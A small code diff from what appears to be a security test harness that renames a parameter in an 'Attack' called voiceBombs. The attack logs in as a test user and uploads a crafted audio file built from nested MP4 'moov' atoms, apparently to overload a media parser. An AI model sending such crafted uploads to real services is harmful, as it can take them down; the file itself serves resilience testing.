@@ -24,9 +24,9 @@ export const voiceBombs: Attack = {
       ),
     ],
   },
-  async run(town) {
-    const { address } = town
-    const cookie = await signInOf(town, phones.ana)
+  async run(demo) {
+    const { address } = demo
+    const cookie = await signInOf(demo, phones.ana)
     const form = new FormData()
     form.set('file', new Blob([nestedMoov(pairs)], { type: 'audio/mp4' }), 'voice.m4a')
     let isAnswered = false
